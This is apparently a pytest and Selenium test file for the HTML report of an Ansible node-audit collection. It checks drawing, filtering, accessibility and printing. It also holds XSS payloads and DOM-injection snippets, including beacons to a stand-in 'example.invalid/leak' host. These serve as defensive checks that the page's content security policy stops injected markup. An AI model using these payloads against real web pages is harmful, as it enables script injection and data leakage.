# SPDX-FileCopyrightText: The bulwark.node authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""report.html as a browser shows it: what is drawn, found, printed and read, and that no text of a node ever acts."""

from __future__ import annotations

import contextlib
import re
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.bulwark.node.tests.fakes.fleet import changed, compared, fleet, gateways
from ansible_collections.bulwark.node.tests.unit.plugins.plugin_utils.test_report_html import everywhere

from .chromium import PHONE, WIDE, Browser
from .conftest import Open, report

SCREENSHOTS = Path(__file__).resolve().parents[2] / ".cache" / "screenshots"
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "</style><script>alert(4)</script>",
    "</script><script>alert(5)</script>",
    "--></title></textarea>]]><iframe srcdoc='<script>alert(6)</script>'>",
    "javascript:alert(7)",
    "\u202egnp.exe\u2066\u200b",
    "x" * 50_000,
    "{{ 7 * 7 }}{% raw %}",
)
OPEN_ALL = "document.querySelectorAll('details').forEach((each) => { each.open = true; });"
VISIBLE = "return [...document.querySelectorAll(arguments[0])].filter((each) => each.checkVisibility()).map((each) => each.textContent)"
HOSTS = "#hosts > .host > summary h3"


def visible(browser: Browser, selector: str) -> list[str]:
    found: list[str] = browser.js(VISIBLE, selector)
    return found


def audited() -> list[tuple[str, dict[str, Any]]]:
    """The hosts with facts, by the ids of their sections."""
    return [(f"host-{name}", row["facts"]) for name, row in report("some")["hosts"].items() if row["facts"]]


def rows(browser: Browser, anchor: str, selector: str) -> Any:
    """The texts and data of the elements in a host's section."""
    script = (
        "return [...document.getElementById(arguments[0]).querySelectorAll(arguments[1])].map((each) => ({...each.dataset,"
        " text: each.textContent, ...Object.fromEntries([...each.attributes].map((one) => [one.name, one.value]))}))"
    )
    return browser.js(script, anchor, selector)


def failed(status: str = "fail", **wanted: str) -> list[tuple[str, str]]:
    """(host, control) of the findings of a status that have these values."""
    return [
        (name, finding["control"])
        for name, row in report("some")["hosts"].items()
        for finding in row["findings"]
        if finding["status"] == status and all(finding[key] == value for key, value in wanted.items())
    ]


def test_the_sums_are_those_of_the_report(opened: Open) -> None:
    browser = opened("some")
    found = browser.js(
        "return [...document.querySelectorAll('[data-severity]')].map((e) => [e.dataset.severity, +e.textContent])"
    )
    assert dict(found) == report("some")["summary"]["findings"]["fail_by_severity"]
    found = browser.js(
        "return [...document.querySelectorAll('b[data-status]')].map((e) => [e.dataset.status, +e.textContent])"
    )
    assert dict(found) == {
        key: value for key, value in report("some")["summary"]["findings"]["by_status"].items() if value
    }


def test_memory_is_drawn_as_the_facts_have_it(opened: Open) -> None:
    browser = opened("some")
    for anchor, facts in audited():
        memory = facts["memory"]
        found = {row["fact"]: row["value"] for row in rows(browser, anchor, ".memory [data-fact]")}
        for key in ("used", "available", "free", "buff_cache", "total"):
            assert found[f"memory.free.mem.{key}"] == str(memory["free"]["mem"][key])
        for key in ("working_set_bytes", "available_bytes", "available_corrected_bytes"):
            assert found[f"memory.kubelet.{key}"] == str(memory["kubelet"][key])
        assert found["hugepages.pool_bytes"] == str(facts["hugepages"]["pool_bytes"])
        bars = {row["class"]: row for row in rows(browser, anchor, ".memory rect")}
        total = memory["free"]["mem"]["total"]
        for name, value in (
            ("used", memory["free"]["mem"]["used"]),
            ("working", memory["kubelet"]["working_set_bytes"]),
        ):
            assert float(bars[name]["width"]) == pytest.approx(100 * value / total, abs=0.02)


def test_pools_are_drawn_per_numa_node(opened: Open) -> None:
    browser = opened("some")
    read = (
        "return [...document.getElementById(arguments[0]).querySelectorAll('[data-pool]')].map((pool) => [pool.dataset.pool,"
        " [...pool.querySelectorAll('[data-row]')].map((row) => [row.dataset.row,"
        " Object.fromEntries([...row.querySelectorAll('[data-fact]')].map((cell) => [cell.dataset.fact, cell.textContent])),"
        " Object.fromEntries([...row.nextElementSibling.querySelectorAll('rect')].map((bar) =>"
        " [bar.getAttribute('class'), bar.getBoundingClientRect().width / bar.ownerSVGElement.getBoundingClientRect().width])),"
        " ])])"
    )
    for anchor, facts in audited():
        browser.js("document.getElementById(arguments[0]).open = true", anchor)
        shown = dict(browser.js(read, anchor))
        for pool in facts["hugepages"]["pools"]:
            if not pool["total"]:
                assert pool["size"] not in shown
                continue
            drawn = {name: (numbers, bars) for name, numbers, bars in shown[pool["size"]]}
            for node in pool["nodes"]:
                numbers, bars = drawn[f"node {node['node']}"]
                used = node["total"] - node["free"]
                assert (numbers["used"], numbers["surplus"], numbers["total"]) == (str(used), "0", str(node["total"]))
                # What is drawn is as wide as it says, on the screen.
                assert bars.get("used", 0) == pytest.approx(used / pool["total"], abs=0.01)
            if len(pool["nodes"]) > 1:
                numbers, bars = drawn["all nodes"]
                parts = [pool["total"] - pool["free"], pool["reserved"], pool["free"] - pool["reserved"]]
                assert [numbers[name] for name in ("used", "reserved", "free")] == [str(part) for part in parts]
                assert sum(bars.values()) == pytest.approx(1, abs=0.02)


def test_bridges_have_their_ports_and_what_does_not_fit_is_red(opened: Open) -> None:
    browser = opened("some")
    reds = set()
    for anchor, facts in audited():
        browser.js("document.getElementById(arguments[0]).open = true", anchor)
        for bridge in facts["bridges"] or []:
            ports = rows(browser, anchor, f'[data-bridge="{bridge["name"]}"] [data-port]')
            assert sorted(port["port"] for port in ports) == sorted(port["name"] for port in bridge["ports"])
            wrong = [port["port"] for port in ports if port.get("class") == "wrong"]
            assert sorted(wrong) == sorted(bridge["mismatched"])
            assert all("≠" in port["text"] for port in ports if port["port"] in wrong)
            assert rows(browser, anchor, ".deck [data-fact=mtu]")[0]["text"] == str(bridge["mtu"])
            pin = "pinned" if bridge["pinned"] else "pin not known"
            assert rows(browser, anchor, ".deck [data-fact=pinned]")[0]["text"] == pin
            colour = "return [...document.querySelectorAll('#' + CSS.escape(arguments[0]) + ' .ports .wrong')].map((e) => getComputedStyle(e).color)"
            reds |= set(browser.js(colour, anchor))
    assert reds == {browser.js("return getComputedStyle(document.querySelector('.lost')).color")}


def test_limits_are_drawn_against_their_ceiling(opened: Open) -> None:
    browser = opened("some")
    overs = 0
    for anchor, facts in audited():
        limits = {row["name"]: row["limits"]["nofile"] for row in facts["rlimits"]["processes"]}
        for name, nofile in limits.items():
            cells = {row["fact"]: row["text"] for row in rows(browser, anchor, f'[data-process="{name}"] [data-fact]')}
            over = nofile["hard"] > facts["sysctls"]["fs.nr_open"]
            assert cells["soft"] == str(nofile["soft"])
            assert cells["hard"] == str(nofile["hard"]) + (" above the ceiling" if over else "")
            overs += over
        ceiling = {float(row["x"]) for row in rows(browser, anchor, ".rlimits .ceiling") if "x" in row}
        soft = [float(row["x"]) for row in rows(browser, anchor, ".rlimits rect.soft")]
        assert len(ceiling) == 1
        assert all(x <= min(ceiling) for x in soft)
    assert overs > 0


def test_the_ladder_of_kvm_shows_what_was_proven(opened: Open) -> None:
    browser = opened("some")
    for anchor, facts in audited():
        steps = {row["step"]: row["state"] for row in rows(browser, anchor, ".ladder [data-step]")}
        assert list(steps) == ["open", "api", "vm", "vcpu", "real_mode_guest"]
        assert [step for step, state in steps.items() if state == "proven"] == facts["kvm"]["proven"]
        text = rows(browser, anchor, ".drawing.kvm")[0]["text"]
        assert facts["kvm"]["verdict"] in text
        assert all(reason["detail"] in text for reason in facts["kvm"]["reasons"])
        assert all(profile["verdict"] in text for profile in facts["kvm"]["profiles"].values())


def test_image_file_systems_and_devices_are_drawn(opened: Open) -> None:
    browser = opened("some")
    for anchor, facts in audited():
        (percent,) = [row["text"] for row in rows(browser, anchor, ".image_fs [data-fact=gc_percent]")]
        assert int(percent) == facts["image_fs"][0]["gc_percent"]
        (gauge,) = rows(browser, anchor, ".image_fs .gc :is(.used, .over)")
        assert (float(gauge["width"]), gauge["class"]) == (int(percent), "over" if int(percent) >= 85 else "used")
        marks = {row["class"]: row["value"] for row in rows(browser, anchor, ".image_fs .gc rect") if "x" in row}
        assert marks == {"low": "80", "high": "85"}
        devices = [row["device"] for row in rows(browser, anchor, "[data-device]")]
        assert devices == [device["address"] for device in facts["pci"]["devices"]]
        made = [int(row["value"]) for row in rows(browser, anchor, "[data-fact=numvfs]")]
        assert made == [row["numvfs"] for row in facts["pci"]["sriov"]]


def test_configured_running_and_next_boot_stand_side_by_side(opened: Open) -> None:
    browser = opened("some")
    differs = 0
    for anchor, facts in audited():
        table = rows(browser, anchor, ".boot .states:last-of-type tbody tr")
        args = facts["kernel_args"]
        for token in args["configured"]:
            (row,) = [row["text"] for row in table if row["text"].startswith(token)]
            states = [token in args[name] for name in ("configured", "running", "next_boot")]
            assert row.endswith("".join("yes" if state else "no" for state in states))
            differs += "next boot" in row or "boot entry" in row
    assert differs > 0


def test_a_finding_has_why_evidence_and_the_lines_that_fix_it(opened: Open) -> None:
    browser = opened("some")
    number = 0
    for name, row in report("some")["hosts"].items():
        for finding in row["findings"]:
            if finding["status"] != "fail":
                continue
            anchor = f"host-{name}--{finding['control']}"
            text = browser.js("return document.getElementById(arguments[0]).textContent", anchor)
            assert finding["title"] in text
            assert finding["reason"] in text
            assert finding["why"] in text
            assert finding["remedy"] in text
            assert str(finding["evidence"]["available_bytes"]) in text
            code = rows(browser, anchor, "pre")
            assert [each["text"].strip("\n") for each in code] == [
                text.strip("\n") for text in [finding["playbook"]] if text
            ]
            links = [each["href"] for each in rows(browser, anchor, "a")]
            assert links == finding["references"]
            number += 1
    assert number > 10


def test_the_map_has_a_letter_for_each_verdict_and_links_to_it(opened: Open) -> None:
    browser = opened("some")
    read = (
        "const heads = [...document.querySelectorAll('.map thead th span')].map((each) => each.textContent);"
        "return [...document.querySelectorAll('.map tbody tr')].map((row) => [row.cells[0].textContent,"
        " [...row.cells].slice(1).map((cell, at) => [heads[at], cell.textContent, cell.firstElementChild?.getAttribute('href')])])"
    )
    letters = {"error": "!", "unknown": "?", "waived": "W", "not_applicable": "-", "pass": "✓"}
    shown = dict(browser.js(read))
    assert set(shown) == set(report("some")["hosts"])
    for name, row in report("some")["hosts"].items():
        cells = {control: (letter, link) for control, letter, link in shown[name]}
        if row["status"] != "ok":
            assert [letter for letter, link in cells.values()] == [row["status"]]
            continue
        found = {finding["control"]: finding for finding in row["findings"]}
        for control, (letter, link) in cells.items():
            finding = found[control]
            failing = finding["status"] == "fail"
            assert letter == (finding["severity"][0].upper() if failing else letters[finding["status"]])
            loud = finding["status"] not in ("pass", "not_applicable")
            assert link == (f"#host-{name}--{control}" if loud else None)
        assert {key for key, finding in found.items() if finding["status"] == "fail"} <= set(cells)


@pytest.mark.parametrize("severity", ["critical", "high", "low"])
def test_a_severity_leaves_the_hosts_and_findings_that_have_it(opened: Open, severity: str) -> None:
    browser = opened("some")
    browser.js("document.querySelector(`#severities [value=${arguments[0]}]`).click()", severity)
    browser.js("document.querySelector('#statuses [value=fail]').click()")
    wanted = failed(severity=severity)
    assert sorted(visible(browser, HOSTS)) == sorted({name for name, control in wanted})
    assert sorted(visible(browser, ".map tbody th")) == sorted({name for name, control in wanted})
    assert set(visible(browser, ".map thead span")) == {control for name, control in wanted}
    browser.js(OPEN_ALL)
    assert len(visible(browser, ".finding > summary")) == len(wanted)
    assert browser.js("return location.hash") == f"#severity={severity}&status=fail"
    assert f"{len(wanted)} findings" in browser.js("return document.getElementById('shown').value")


@pytest.mark.parametrize("status", ["fail", "unknown", "waived", "not_applicable", "pass"])
def test_a_status_leaves_the_hosts_that_have_it(opened: Open, status: str) -> None:
    browser = opened("some", f"status={status}")
    assert sorted(visible(browser, HOSTS)) == sorted({name for name, control in failed(status)})


def test_a_control_and_a_group_leave_what_is_theirs(opened: Open) -> None:
    browser = opened("some", "control=thp-direct-compaction&status=fail&group=dc1")
    groups = {name: row["groups"] for name, row in report("some")["hosts"].items()}
    wanted = [name for name, control in failed(control="thp-direct-compaction") if "dc1" in groups[name]]
    assert 0 < len(wanted) < len(failed(control="thp-direct-compaction"))
    assert sorted(visible(browser, HOSTS)) == sorted(wanted)
    assert visible(browser, ".map thead span") == ["thp-direct-compaction"]


@pytest.mark.parametrize("text", ["db-02", "DB-02", "swapoff", "no such thing", "<b>"])
def test_search_finds_hosts_and_findings(opened: Open, text: str) -> None:
    browser = opened("some")
    browser.driver.find_element("id", "search").send_keys(text)
    script = "const done = arguments[0]; setTimeout(() => done(document.getElementById('shown').value), 400)"
    browser.driver.execute_async_script(script)
    wanted = {name for name in report("some")["hosts"] if text.lower() in name}
    if text == "swapoff":
        wanted = {name for name, control in failed(control="kubelet-swap-off")} | {
            name for name, control in failed("waived", control="kubelet-swap-off")
        }
        assert wanted
    assert sorted(visible(browser, HOSTS)) == sorted(wanted)
    assert bool(visible(browser, "#nothing")) == (not wanted)
    assert browser.js("return new URLSearchParams(location.hash.slice(1)).get('q')") == text


def test_the_address_brings_the_view_back(opened: Open) -> None:
    browser = opened("some", "q=web&severity=high&status=fail,unknown&group=dc1&theme=dark")
    state = (
        "return [document.getElementById('search').value, [...document.querySelectorAll('.chip input:checked')].map((e) => e.value),"
        " document.getElementById('group').selectedOptions[0].text, document.documentElement.dataset.theme]"
    )
    assert browser.js(state) == ["web", ["high", "fail", "unknown"], "dc1", "dark"]
    shown = visible(browser, HOSTS)
    assert all("web" in name for name in shown)
    browser.js("document.getElementById('clear').click()")
    assert len(visible(browser, HOSTS)) == 20
    assert browser.js("return location.hash") == "#theme=dark"


@pytest.mark.parametrize(
    "fragment",
    ["%E0%A4%A", "q=%E0%A4%A", "=&&=", "nobody", "status=odd&control=x&group=y", "<img src=x onerror=alert(1)>"],
)
def test_an_odd_address_shows_the_page(opened: Open, fragment: str) -> None:
    browser = opened("some", fragment)
    assert browser.logs()[0] == []
    assert len(visible(browser, "h1")) == 1


def test_a_link_of_the_map_opens_the_finding_and_is_kept_in_the_address(opened: Open) -> None:
    browser = opened("some", "status=fail")
    browser.js("document.querySelector('.map td a').click()")
    (anchor,) = browser.js("return [...document.querySelectorAll('.finding[open]')].map((each) => each.id)")
    assert browser.js("return document.activeElement.parentElement.id") == anchor
    assert browser.js("return location.hash") == f"#status=fail&at={anchor}"
    again = opened("some", f"status=fail&at={anchor}")
    assert again.js("return document.getElementById(arguments[0]).open", anchor) is True
    top = again.js("return document.getElementById(arguments[0]).getBoundingClientRect().top", anchor)
    assert 0 <= top < 900


def test_the_keyboard_is_enough(opened: Open) -> None:
    from selenium.webdriver.common.keys import Keys

    browser = opened("some")
    body = browser.driver.find_element("tag name", "body")
    body.send_keys(Keys.TAB)
    assert browser.js("return document.activeElement.className") == "skip"
    ring = "const style = getComputedStyle(document.activeElement); return [style.outlineStyle, parseFloat(style.outlineWidth)]"
    assert browser.js(ring) == ["solid", 2]
    body.send_keys("/")
    assert browser.js("return document.activeElement.id") == "search"
    browser.driver.switch_to.active_element.send_keys("db-01", *[Keys.TAB] * 4, Keys.SPACE)
    assert browser.js("return [document.activeElement.value, document.activeElement.checked]") == ["critical", True]
    browser.driver.switch_to.active_element.send_keys(Keys.SPACE)
    (host,) = visible(browser, HOSTS)
    assert host.startswith("db-01")
    browser.js("document.querySelector('.host:not([hidden]) > summary').focus()")
    browser.driver.switch_to.active_element.send_keys(Keys.ENTER)
    assert browser.js("return document.querySelector('.host:not([hidden])').open") is True
    body.send_keys("/")
    browser.driver.switch_to.active_element.send_keys(Keys.ESCAPE)
    assert len(visible(browser, HOSTS)) == 20


def test_everything_that_acts_can_be_reached_and_has_a_name(opened: Open) -> None:
    browser = opened("some")
    nameless = (
        "return [...document.querySelectorAll('a, button, input, select, summary')].filter((each) => each.tabIndex < 0 ||"
        " !(each.textContent.trim() || each.getAttribute('aria-label') || each.closest('label')?.textContent.trim())).map((e) => e.outerHTML)"
    )
    assert browser.js(nameless) == []


def test_the_lines_of_a_playbook_are_copied(opened: Open) -> None:
    browser = opened("some")
    grant = {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
    browser.driver.execute_cdp_cmd("Browser.grantPermissions", grant)
    browser.js(OPEN_ALL)
    button = browser.driver.find_element("css selector", ".finding .copy")
    wanted = browser.js("return arguments[0].nextElementSibling.textContent", button)
    browser.js("arguments[0].scrollIntoView({block: 'center'})", button)
    button.click()
    script = "const done = arguments[0]; setTimeout(() => navigator.clipboard.readText().then(done, (why) => done(String(why))), 200)"
    assert browser.driver.execute_async_script(script) == wanted
    assert button.text == "Copied"


def test_light_and_dark_are_as_one_likes_or_chooses(opened: Open) -> None:
    ground = "return getComputedStyle(document.documentElement).backgroundColor"
    browser = opened("one")
    light = browser.js(ground)
    browser = opened("one", dark=True)
    dark = browser.js(ground)
    assert light != dark
    browser.driver.find_element("id", "theme").click()
    assert browser.js(ground) == light
    browser.driver.find_element("id", "theme").click()
    assert browser.js(ground) == dark


def test_gateways_stand_allotted_against_needed_and_when_they_break(opened: Open) -> None:
    browser = opened("some")
    shown = "return [...document.querySelectorAll('.gateway')].map((each) => [...each.querySelectorAll(arguments[0])].map((one) => one.textContent))"
    verdicts = [heads[0] for heads in browser.js(shown, "h3 .pill")]
    assert verdicts == ["short", "tight", "enough", "unknown"]
    short = browser.js(shown, "tbody td")[0]
    assert short == ["1024", "3875", "1", "3", "700", "from 1", "20.0", "beyond 2.7", "40", "from 64"]
    heads = "return [...document.querySelectorAll('.gateway')].every((each) => each.querySelectorAll('caption').length === 2 && "
    assert browser.js(heads + "[...each.querySelectorAll('th')].every((one) => one.scope))")
    levels = (
        "return [...document.querySelectorAll('#cloud-nat :is(h2, h3, h4, h5)')].map((each) => Number(each.tagName[1]))"
    )
    found = browser.js(levels)
    assert all(after <= before + 1 for before, after in zip(found, found[1:]))
    browser.driver.find_element("css selector", "nav a[href='#cloud-nat']").click()
    assert browser.js("return location.hash") == "#cloud-nat"
    assert browser.js("return document.getElementById('cloud-nat').getBoundingClientRect().top < innerHeight")


# Each text's colour and what is behind it, of all that is on the page.
CONTRAST = r"""
const parse = (colour) => (colour.match(/[\d.]+/g) || []).map(Number);
const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
  .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
const behind = (node) => {
  for (let at = node; at; at = at.parentElement) {
    const colour = parse(getComputedStyle(at).backgroundColor);
    if (colour.length === 3 || colour[3] === 1) return colour;
  }
  return [255, 255, 255];
};
const found = new Map();
for (const node of document.querySelectorAll('body *')) {
  if (![...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim())) continue;
  if (!node.checkVisibility() || node.closest('script, .sr, option')) continue;
  const style = getComputedStyle(node), front = parse(style.color), back = behind(node);
  const [high, low] = [light(front), light(back)].sort((a, b) => b - a);
  const ratio = (high + .05) / (low + .05);
  const size = parseFloat(style.fontSize), large = size >= 24 || (size >= 18.66 && style.fontWeight >= 700);
  if (ratio < (large ? 3 : 4.5)) found.set(`${style.color} on ${back}`, `${ratio.toFixed(2)} ${node.className} ${node.textContent.slice(0, 40)}`);
}
return Object.fromEntries(found);
"""


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("name", ["some", "run"])
def test_each_text_stands_out_from_what_is_behind_it(opened: Open, name: str, dark: bool) -> None:
    browser = opened(name, dark=dark)
    browser.js(OPEN_ALL)
    assert browser.js(CONTRAST) == {}


@pytest.mark.parametrize("name", ["one", "some", "run"])
def test_a_phone_scrolls_the_page_in_one_direction(opened: Open, name: str) -> None:
    browser = opened(name, width=PHONE)
    sizes = "return [document.documentElement.scrollWidth, innerWidth]"
    assert browser.js(sizes) == [PHONE, PHONE]
    browser.js(OPEN_ALL)
    assert browser.js(sizes) == [PHONE, PHONE]
    wide = (
        "return [...document.querySelectorAll('main *')].filter((each) => !each.closest('.map, pre, .evidence, .sr, svg') &&"
        " each.checkVisibility() && each.getBoundingClientRect().right > innerWidth + 1).map((each) => each.outerHTML.slice(0, 200))"
    )
    assert browser.js(wide) == []


def test_the_map_scrolls_in_its_own_box_and_keeps_its_heads(opened: Open) -> None:
    browser = opened("fleet", width=PHONE)
    browser.js("const map = document.querySelector('.map'); map.scrollIntoView(); map.scrollTo(300, 1500)")
    where = (
        "const box = document.querySelector('.map').getBoundingClientRect(); const at = (s) => document.querySelector(s).getBoundingClientRect();"
        "return [at('.map thead').top - box.top, at('.map tbody tr:nth-child(60) th').left - box.left, document.querySelector('.map').scrollLeft]"
    )
    top, left, scrolled = browser.js(where)
    assert (abs(top) < 6, abs(left) < 6, scrolled > 0) == (True, True, True)


def hostile() -> dict[str, Any]:
    made = changed(compared(fleet(len(HOSTILE))))
    hosts = {}
    for text, (name, row) in zip(HOSTILE, made["hosts"].items(), strict=True):
        bad = everywhere(row, lambda own: own + text)  # noqa: B023 - it is called at once
        # What fails is what is shown most of.
        bad["findings"] = [
            {**finding, "status": "fail", "why": text, "playbook": text} for finding in bad["findings"][:12]
        ]
        hosts[name + text] = bad
    older = everywhere(made["compared"], lambda own: own + HOSTILE[1])
    nats = everywhere(gateways(), lambda own: own + HOSTILE[1])
    return {**made, "hosts": hosts, "compared": older, "cloud_nat": nats}


def test_no_text_of_a_node_acts_or_becomes_an_element(opened: Open) -> None:
    browser = opened(hostile())
    browser.js(OPEN_ALL)
    console, asked = browser.logs()
    assert console == []
    assert len(asked) == 1
    odd = (
        "return [...document.querySelectorAll('script, style, img, iframe, object, embed, link, base, form, [onerror], [onload], [style]')]"
        ".map((each) => each.tagName)"
    )
    assert browser.js(odd) == ["STYLE", "SCRIPT"]
    links = browser.js("return [...new Set([...document.querySelectorAll('a')].map((each) => each.protocol))]")
    assert sorted(links) in (["file:"], ["file:", "https:"])
    text = browser.js("return document.querySelector('#hosts').textContent")
    for each in HOSTILE[:7]:
        assert each in text
    assert "\\u202egnp.exe\\u2066\\u200b" in text
    assert not set("\u202e\u2066\u200b") & set(browser.js("return document.documentElement.outerHTML"))
    assert "49" not in browser.js("return document.title")


def test_hostile_text_does_not_break_the_page(opened: Open) -> None:
    browser = opened(hostile(), width=PHONE)
    browser.js(OPEN_ALL)
    assert browser.js("return document.documentElement.scrollWidth") == PHONE
    browser.driver.find_element("id", "search").send_keys("<script>")
    browser.driver.execute_async_script("setTimeout(arguments[0], 400)")
    assert 0 < len(visible(browser, HOSTS)) < len(HOSTILE)
    assert browser.logs()[0] == []


# Ways in which text that got into the page after all could act: each is refused by the policy.
INJECTIONS = {
    "script": "const made = document.createElement('script'); made.append('window.pwned = 1'); document.body.append(made)",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')",
    "handler": "document.body.setAttribute('onclick', 'window.pwned = 1'); document.body.click()",
    "frame": "const made = document.createElement('iframe'); made.src = 'javascript:parent.pwned=1'; document.body.append(made)",
    "image": "new Image().src = 'https://example.invalid/leak'",
    "fetch": "fetch('https://example.invalid/leak').catch(() => {})",
    "style": "const made = document.createElement('style'); made.append('body { display: none }'); document.head.append(made)",
    "attribute": "document.body.setAttribute('style', 'display: none')",
    "base": "const made = document.createElement('base'); made.href = 'https://example.invalid/'; document.head.append(made)",
}


@pytest.mark.parametrize("kind", INJECTIONS)
def test_the_policy_refuses_what_was_not_in_the_page(opened: Open, kind: str) -> None:
    from selenium.common.exceptions import JavascriptException

    browser = opened("one")
    assert browser.logs()[0] == []
    # What puts markup or code somewhere fails at once.
    with contextlib.suppress(JavascriptException):
        browser.js(INJECTIONS[kind])
    browser.driver.execute_async_script("setTimeout(arguments[0], 200)")
    state = "return [window.pwned ?? null, getComputedStyle(document.body).display, document.baseURI.slice(0, 5)]"
    assert browser.js(state) == [None, "block", "file:"]
    console, asked = browser.logs()
    assert any(re.search("Content Security Policy|Trusted", line) for line in console) or kind == "frame"
    assert [address for address in asked if address.startswith("http")] == []


@pytest.mark.parametrize("name", ["one", "run", "fleet"])
def test_nothing_is_asked_for_but_the_file_and_nothing_complained_of(opened: Open, name: str) -> None:
    browser = opened(name)
    browser.js("document.getElementById('theme').click(); document.querySelector('#statuses input').click()")
    console, asked = browser.logs()
    assert console == []
    assert [re.sub(r".*/", "", address) for address in asked] == [f"{name}.html"]


def test_on_paper_all_is_open(opened: Open) -> None:
    browser = opened("some")
    seen = "return [...document.querySelectorAll('.finding .why, .drawing')].filter((e) => e.checkVisibility({contentVisibilityAuto: true})).length"
    assert browser.js(seen) == 0
    browser.media(False, "print")
    number = browser.js("return document.querySelectorAll('.finding .why, .drawing').length")
    assert browser.js(seen) == number > 100
    assert visible(browser, ".filters, .copy, #theme") == []
    browser.media(False)
    assert len(re.findall(rb"/Type /Page\b", browser.pdf())) > 20
    assert browser.js("return document.querySelectorAll('details[open]').length") == 0


def test_a_dark_page_is_printed_on_white(opened: Open) -> None:
    browser = opened("one", "theme=dark", dark=True)
    browser.media(True, "print")
    colour = browser.js("return getComputedStyle(document.querySelector('h1')).color")
    assert sum(int(part) for part in re.findall(r"\d+", colour)) < 200


def test_without_a_script_all_is_there(opened: Open) -> None:
    browser = opened("one")
    driver = browser.driver
    driver.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    try:
        driver.refresh()
        shown = [
            each.text
            for each in driver.find_elements("css selector", "h1, .host h3, .drawing h4")
            if each.is_displayed()
        ]
        assert len(shown) >= 8
        assert [
            each for each in driver.find_elements("css selector", ".filters, .copy, #theme") if each.is_displayed()
        ] == []
    finally:
        driver.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})


def test_1000_hosts_are_on_one_page_and_each_filter_leaves_its_own(opened: Open) -> None:
    browser = opened("many")
    hosts = report("many")["hosts"]
    counts = (
        "return [document.querySelectorAll('#hosts > .host').length, document.querySelectorAll('.map tbody tr').length]"
    )
    assert browser.js(counts) == [1000, 1000]

    def left(severity: str, group: str = "") -> set[str]:
        quiet = ("pass", "not_applicable")
        return {
            name
            for name, row in hosts.items()
            for finding in row["findings"]
            if finding["severity"] == severity
            and finding["status"] not in quiet
            and (not group or group in row["groups"])
        }

    def shown() -> tuple[set[str], set[str]]:
        # Not whether each is visible: to tell that of one that is out of sight, the browser lays the page out.
        read = "return [...document.querySelectorAll(arguments[0])].map((each) => each.textContent)"
        selectors = ("#hosts > .host:not([hidden]) > summary h3", ".map tbody tr:not([hidden]) th")
        listed, mapped = (set(browser.js(read, selector)) for selector in selectors)
        return listed, mapped

    browser.js("document.querySelector('#severities [value=critical]').click()")
    critical = left("critical")
    assert 0 < len(critical) < 1000
    assert shown() == (critical, critical)
    browser.js(
        "const group = document.getElementById('group');"
        "group.selectedIndex = [...group.options].findIndex((each) => each.text === 'kvm');"
        "group.dispatchEvent(new Event('change', {bubbles: true}))"
    )
    narrow = left("critical", "kvm")
    assert 0 < len(narrow) < len(critical)
    assert shown() == (narrow, narrow)
    browser.js("document.getElementById('clear').click()")
    assert shown() == (set(hosts), set(hosts))


@pytest.mark.parametrize("dark", [False, True])
@pytest.mark.parametrize("width", [WIDE, PHONE])
@pytest.mark.parametrize("name", ["one", "some", "run", "fleet"])
def test_pictures_for_people(opened: Open, name: str, width: int, dark: bool) -> None:
    browser = opened(name, width=width, dark=dark)
    path = SCREENSHOTS / f"report-{name}-{width}-{'dark' if dark else 'light'}.png"
    browser.screenshot(path)
    assert path.read_bytes().startswith(b"\x89PNG")
